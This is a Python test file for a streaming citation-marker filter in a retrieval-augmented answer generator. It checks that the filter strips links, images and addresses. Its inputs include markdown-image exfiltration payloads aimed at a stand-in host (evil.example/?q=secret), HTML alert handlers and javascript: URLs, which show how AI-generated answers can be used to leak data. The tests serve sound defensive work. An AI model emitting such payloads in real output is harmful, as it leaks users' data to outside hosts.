"""What passes from an answerer to the reader."""

from __future__ import annotations

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragstone.generation.markers import REMOVED_ADDRESS, MarkerFilter, markers

PASSAGES = ["See https://rust-lang.org/learn for more.", "two", "three"]


def filtered(text, cuts=()):
    """What passes of `text` when it comes cut at `cuts`, and how many markers went."""
    markers = MarkerFilter(PASSAGES)
    out = ""
    for start, end in zip((0, *cuts), (*cuts, len(text)), strict=True):
        out += markers.feed(text[start:end])
    return out + markers.finish(), markers.removed


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("Yes [1].", "Yes [1]."),
        ("Yes [1, 2] and [2][3].", "Yes [1][2] and [2][3]."),
        ("Yes 【1】【2】.", "Yes [1][2]."),
        ("Yes [1; 3].", "Yes [1][3]."),
        ("Same [2, 2].", "Same [2]."),
        ("In [2019] it was [a note].", "In [2019] it was [a note]."),
        ("Vec<String>, a < b, <b>bold</b> and `x[7]`!", "Vec<String>, a < b, <b>bold</b> and `x[7]`!"),
        ("```python\nx[9] = y[0]\n```\nDone [1].", "```python\nx[9] = y[0]\n```\nDone [1]."),
    ],
)
def test_markers_take_one_form_and_all_else_stays(written, read):
    assert filtered(written) == (read, 0)


def test_a_marker_that_points_nowhere_is_removed_and_counted():
    assert filtered("A [4]. B [0][2]. C [1, 9]") == ("A. B [2]. C [1]", 3)


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("![pixel](http://evil.example/?q=secret)", "pixel"),
        ("[click](http://evil.example/?q=secret)", "click"),
        ("[1](http://evil.example/)", "1"),
        ("[Rust](https://rust-lang.org/learn)", "Rust (https://rust-lang.org/learn)"),
        ("go to http://evil.example/a, now", f"go to {REMOVED_ADDRESS}, now"),
        ("go to //evil.example/a now", f"go to {REMOVED_ADDRESS} now"),
        ("go to www.evil.example now", f"go to {REMOVED_ADDRESS} now"),
        ("https://rust-lang.org/learn?q=secret", REMOVED_ADDRESS),
        ("`https://evil.example`", f"`{REMOVED_ADDRESS}`"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<b onclick=alert(1)>x</b>", "< b onclick=alert(1)>x</b>"),
        ("[x]: http://evil.example", f"[x] : {REMOVED_ADDRESS}"),
        ("[1]: http://evil.example", f"[1] : {REMOVED_ADDRESS}"),
        ("![a\nb](//evil.example/x)", f"![a\nb] ({REMOVED_ADDRESS})"),
        ("\\`![x](//evil.example/x)\\`", "\\`x\\`"),
        ("- ```\n  ```\n![x](//evil.example/y)", f"- ```\n  ```\n![x] ({REMOVED_ADDRESS})"),
    ],
)
def test_nothing_passes_that_loads_or_leads_elsewhere(written, read):
    assert filtered(written)[0] == read


ALL = (
    "Hello [1]. World [2][3], x [1, 2] y 【2】 z [7]. `a[1]`\n```python\nx[1] = y[2]\n```\nafter [x](http://evil.example)"
    " ![i](//evil.example/x.png) [r](https://rust-lang.org/learn) Vec<String> <img src=x> 4! data java http"
    " www.evil.example //evil.example/x ftp://evil.example/x javascript:alert(1) data:text/html,x a//b file w"
)


@pytest.mark.parametrize("seed", range(50))
def test_it_does_not_matter_where_the_stream_is_cut(seed):
    cuts = sorted(random.Random(seed).sample(range(len(ALL)), 25))
    assert filtered(ALL, cuts) == filtered(ALL)
    assert filtered(ALL, range(1, len(ALL))) == filtered(ALL)


@given(st.text(alphabet="abhtpw1[]()!<>`~:/. \n\\【】", max_size=60), st.data())
def test_any_text_cut_anywhere_reads_the_same(text, data):
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=6)))
    assert filtered(text, cuts) == filtered(text)


@given(st.text(alphabet="ab1[]()!<>`:/. \n", max_size=60))
def test_no_inline_link_is_left(text):
    assert "](" not in filtered(text + "(")[0]
    assert "]:" not in filtered(text + ":")[0]


def test_plain_text_is_not_held_back():
    assert MarkerFilter(PASSAGES).feed("Nothing special here") == "Nothing special here"


def test_markers_are_found_with_the_space_before_them_and_outside_of_code_and_links():
    text = "A [1][2], `x[3]`, 【4】 [5](x) ![6](y).\n```\nz[7]\n```\n[8; 9]"
    assert [(text[one.start : one.end], one.numbers) for one in markers(text)] == [
        (" [1][2]", (1, 2)),
        (" 【4】", (4,)),
        ("[8; 9]", (8, 9)),
    ]


@given(st.text(alphabet="a [1],2【】`\n~", max_size=60))
def test_the_markers_that_are_found_are_those_that_a_filter_acts_on(text):
    strict = MarkerFilter([])
    strict.feed(text)
    strict.finish()
    assert sum(len(one.numbers) for one in markers(text)) == strict.removed


def test_ticks_that_open_no_code_are_text_and_the_marker_behind_them_is_one():
    """As in CommonMark: a run of two ticks is closed by two, so one tick later closes nothing."""
    text = "``[1]` and [2]"
    assert [one.numbers for one in markers(text)] == [(1,), (2,)]
    assert filtered(text) == filtered("``[1]` and [2]", range(1, len(text)))
    strict = MarkerFilter([])
    strict.feed(text)
    strict.finish()
    assert strict.removed == 2


def test_a_long_run_of_ticks_is_read_once():
    assert list(markers("`" * 1_000_000 + " [1]"))[-1].numbers == (1,)
